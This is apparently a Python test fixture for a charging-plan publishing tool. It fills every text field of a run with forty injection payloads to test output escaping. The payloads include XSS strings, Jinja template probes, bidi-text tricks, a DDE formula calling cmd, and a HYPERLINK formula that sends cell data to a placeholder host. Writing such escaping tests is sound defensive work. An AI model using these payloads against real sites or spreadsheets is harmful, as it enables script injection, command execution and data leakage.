"""Forty texts that try to leave the place that shows them, and a run that holds a text at every place."""

from __future__ import annotations

from dataclasses import replace

import numpy as np

from chargeplan.publish.bundle import RunBundle
from chargeplan.records import DataSource, DemandCells, Settlements
from chargeplan.tables import SETTLEMENTS, make_table

RUN = "window.__x=1"  # what each tries to do; it shows nothing, so that no dialog holds up the page
PAYLOADS = {
    "script element": f"<script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a script, spaced": f"</SCRIPT \t><sCrIpT>{RUN}</sCrIpT>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a style": f"</style></noscript></template><script>{RUN}</script>",
    "comment in a script": f"<!--<script>{RUN}//",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "image that fails": f"<img src=x onerror={RUN}>",
    "image, quoted out": f"\"><img src=x onerror='{RUN}'>",
    "image, apostrophe": f"'><img src=x onerror={RUN}>",
    "svg that loads": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "details that open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "attribute, quote": f'" onfocus={RUN} autofocus tabindex=0 x="',
    "attribute, apostrophe": f"' onmouseover={RUN} onfocus={RUN} autofocus x='",
    "attribute, space": f"x onfocus={RUN} autofocus",
    "javascript address": f"javascript:{RUN}",
    "javascript link": f"<a href=javascript:{RUN} id=go>go</a>",
    "javascript address in entities": f"<a href='java&#115;cript:{RUN}'>go</a>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    "base and form": f"<base href=//example.invalid/><form action=javascript:{RUN}><button>go</button></form>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=//example.invalid/x.css>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "template literal": "${" + RUN + "}",
    "end of a template literal": f"`;{RUN};`${{{RUN}}}",
    "end of a text, apostrophe": f"';{RUN};'",
    "end of a text, quote": f'";{RUN};"',
    "end of a text, backslash": f"\\';{RUN};//\\",
    "Jinja expression": "{{7*7}}{{ this._parent }}{{ cycler.__init__.__globals__ }}",
    "Jinja statement": "{% raw %}{% for x in [1,2] %}{{x}}{% endfor %}{# hidden #}",
    "line separators": f"a\u2028{RUN};\u2029//b",
    "control characters": f"x\x00\x08\x1b[31m\x7f\x9f\r\n{RUN}//\ty",
    "reading order": "\u202egnp.exe\u2066 \u2069\u200fشیل <b>پمپ</b>\u202c",
    "formula": "=cmd|' /C calc'!A0",
    "formula, function": '@SUM(1+1)*HYPERLINK("http://example.invalid/"&A1,"go")',
    "300 characters": "<b>" + "W" * 160 + "م" * 160,
    "nothing": "\x00 \u202e ",
}
PLAIN = "Plain words of Aabpara"  # the same places with a text that attacks nothing


def fill_places(bundle: RunBundle, text: str) -> RunBundle:
    """Put a text at every place of a run where text of data, files or the config can stand.

    Ids of cells and sites, and words of closed lists (kinds, states), stay: the program makes or checks them.
    """
    grid, rules, evaluation = bundle.grid, bundle.rules, bundle.evaluation
    assert grid is not None, "a run without a grid lacks places"
    assert rules is not None, "a run without rules lacks places"
    type_name = evaluation.station_years["charger_type"].mode()[0]
    return replace(
        bundle,
        area=replace(bundle.area, title=text),
        network=replace(
            bundle.network,
            roads=bundle.network.roads.assign(name=bundle.network.roads["name"].where(lambda name: name == "", text)),
            repairs=bundle.network.repairs.assign(what=text, examples=text),
        ),
        cells=_fill_cells(bundle.cells, text),
        earlier_cells=tuple(_fill_cells(cells, text) for cells in bundle.earlier_cells),
        sites=replace(
            bundle.sites,
            table=bundle.sites.table.assign(name=text, name_en=text, name_ur=text, brand=text, source=text),
            removed=bundle.sites.removed.assign(name=text, reason=text, detail=text),
        ),
        request=replace(
            bundle.request,
            charger_types=bundle.request.charger_types.replace({"name": {type_name: text}}),
            figures=bundle.request.figures.assign(source=text),
        ),
        evaluation=replace(
            evaluation,
            zones=_fill_zones(evaluation.zones, text),
            zone_years=_fill_zones(evaluation.zone_years, text),
            station_years=evaluation.station_years.replace({"charger_type": {type_name: text}}),
            grid_years=evaluation.grid_years.assign(name=text),
            rule_places=evaluation.rule_places.assign(place=text),
            economics=evaluation.economics.assign(source=text),
            metrics=evaluation.metrics.assign(meaning=text),
            warnings=(text, text),
        ),
        grid=replace(grid, title=text, table=grid.table.assign(name=text)),
        rules=replace(
            rules,
            rules=rules.rules.assign(rule_id=text, pack=text, says=text, source=text),
            area_label=np.full(len(rules.area_label), text, dtype=object).astype(np.str_)
            if text.rstrip("\x00") == text
            else rules.area_label,
            warnings=(text,),
        ),
        sources=(DataSource("network.path", text, "0" * 64, 1, text, text, text, text, (text, text)),),
        credits=(text,),
        settlements=_name_settlement(text),
        settings_as_run={
            "study": {"name": "demo", "title": text, "credits": [text]},
            "publish": {"online_tiles": False},
        },
        run_info=dict(bundle.run_info) | {"command": f"chargeplan run {text}"},
    )  # fmt: skip


def _name_settlement(text: str) -> Settlements:
    row = {"place_id": "n1", "kind": "suburb", "name": text, "name_ur": text, "lon": 73.05, "lat": 33.7}
    return Settlements(make_table(SETTLEMENTS, {name: [value] for name, value in row.items()}))


def _fill_zones(table, text):
    return table.assign(zone_name=table["zone_name"].where(lambda name: name == "(no zone)", text))


def _fill_cells(cells: DemandCells, text: str) -> DemandCells:
    old, step = cells.classes[0], cells.explanation["step"]
    return replace(
        cells,
        classes=(text, *cells.classes[1:]),
        zones=_fill_zones(cells.zones, text),
        explanation=cells.explanation.assign(
            step=[text + name[len(old) :] if name.startswith(f"{old}: ") else name for name in step],
            source=[f"city {text}, scenario {text}" if name.startswith("year of") else text for name in step],
        ),
        warnings=(text,),
    )
